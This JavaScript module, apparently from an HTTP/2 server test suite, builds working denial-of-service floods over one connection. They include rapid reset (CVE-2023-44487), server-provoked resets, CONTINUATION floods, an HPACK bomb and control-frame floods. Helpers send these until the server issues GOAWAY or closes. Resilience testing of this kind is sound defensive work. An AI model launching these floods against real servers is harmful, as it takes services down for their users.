/*
 * floods - what an attacker sends over one connection of HTTP/2, by name
 *
 * FLOODS[name] = [make, first]: make(path)(i) is the i-th piece; first(path) goes before all of them.
 * `path` should be one whose answer takes long. `pour` is an attacker who does not listen.
 */
import net from 'node:net';
import { once } from 'node:events';
import { within } from './check.mjs';
import {
	block, data, END_HEADERS, END_STREAM, frame, GET, H2Connection, headers, ping, POST, reset, settings, TYPE, windowUpdate,
} from './h2raw.mjs';

const id = (i) => 2 * i + 1;
const unending = (path) => [headers(1, POST(path), END_HEADERS)];
const unfinished = (path) => [headers(1, GET(path), END_STREAM)];
const bomb = Buffer.concat([Buffer.from([0x40, 1, 0x62, 0x7f, 0x81, 0x17]), Buffer.alloc(3072, 'b'), Buffer.alloc(12_000, 0xbe)]);
const indexed = Buffer.alloc(8000, 0x82);

/* A header block with 16,000 fields of a byte each behind `fields`. */
export const long = (stream, fields = []) => Buffer.concat([
	frame(TYPE.HEADERS, END_STREAM, stream, Buffer.concat([block(fields), indexed])),
	frame(TYPE.CONTINUATION, END_HEADERS, stream, indexed)]);

export const FLOODS = {
	'rapid reset (CVE-2023-44487)': [(path) => (i) => Buffer.concat([headers(id(i), GET(path)), reset(id(i))])],
	'resets that the server is made to send (CVE-2025-8671)': [(path) => (i) =>
		Buffer.concat([headers(id(i), GET(path)), windowUpdate(id(i), 0x7fffffff)])],
	'requests that are no requests': [(path) => (i) => headers(id(i), [...GET(path), ['Upper', 'x']])],
	'PING': [() => () => ping()],
	'SETTINGS': [() => () => settings()],
	'PRIORITY': [() => (i) => frame(TYPE.PRIORITY, 0, id(i), Buffer.from([0, 0, 0, 0, 1]))],
	'PRIORITY_UPDATE': [() => () => frame(16, 0, 0, Buffer.from([0, 0, 0, 1, 0x75, 0x3d, 0x31]))],
	'frames of an unknown type': [() => () => frame(100, 0, 0)],
	'WINDOW_UPDATE': [() => () => windowUpdate(0, 1)],
	'WINDOW_UPDATE for what was not sent': [() => () => windowUpdate(0, 4096)],
	'WINDOW_UPDATE for a stream that is over': [() => () => windowUpdate(1, 4096), (path) => [headers(1, GET(path)), reset(1)]],
	'HEADERS for a stream that is over': [(path) => () => headers(1, GET(path)), (path) => [headers(1, GET(path)), reset(1)]],
	'CONTINUATION for a stream that is over': [() => () => long(1), (path) => [headers(1, GET(path)), reset(1)]],
	'fields behind one that is refused': [(path) => (i) => long(id(i), [...GET(path), ['Upper', 'x']])],
	'empty DATA': [() => () => data(1, ''), unending],
	'DATA of padding alone': [() => () => frame(TYPE.DATA, 8, 1, Buffer.from([3, 0, 0, 0])), unending],
	'CONTINUATION (CVE-2024-27316)': [() => () => frame(TYPE.CONTINUATION, 0, 1, block([['x', 'y']])), unfinished],
	'empty CONTINUATION': [() => () => frame(TYPE.CONTINUATION, 0, 1), unfinished],
	'a bomb in the HPACK table': [(path) => (i) =>
		frame(TYPE.HEADERS, END_STREAM | END_HEADERS, id(i), Buffer.concat([block(GET(path)), bomb]))],
};

/* Sends until the server has had enough; the code of its GOAWAY. */
export async function flood(url, make, { first = [], options = [], most = 40_000 } = {}) {
	const c = await H2Connection.open(url, options);
	c.send(...first);
	await c.frame(TYPE.SETTINGS);
	for (let i = 0; i < most && !c.raw.ended && !c.find(TYPE.GOAWAY); i += 100) {
		c.send(...Array.from({ length: 100 }, (_, k) => make(i + k)));
		await new Promise(setImmediate);
	}
	return await c.goaway();
}

/*
 * Sends `first`, then `piece` again and again, whatever the server says, for as long as it can: what the server said,
 * and how many bytes were taken from when it had begun to say `last`.
 */
export async function pour(url, first, piece, last) {
	const { hostname, port } = new URL(url);
	const socket = net.connect({ host: hostname, port: Number(port), allowHalfOpen: true });
	let said = Buffer.alloc(0);
	let taken = 0;
	socket.on('error', () => {});
	socket.on('data', (data) => {
		said = Buffer.concat([said, data]);
	});
	await within(once(socket, 'connect'), `connect to ${url}`);
	const closed = once(socket, 'close').then(() => false);
	const write = (data) => Promise.race([closed, new Promise((resolve) => {
		socket.write(data, (error) => resolve(!error));
	})]);
	await within((async () => {
		for (let goes = await write(first); goes;) {
			const counts = said.includes(last);
			goes = await write(piece);
			taken += goes && counts ? piece.length : 0;
		}
	})(), 'the server closes');
	return { said, taken };
}
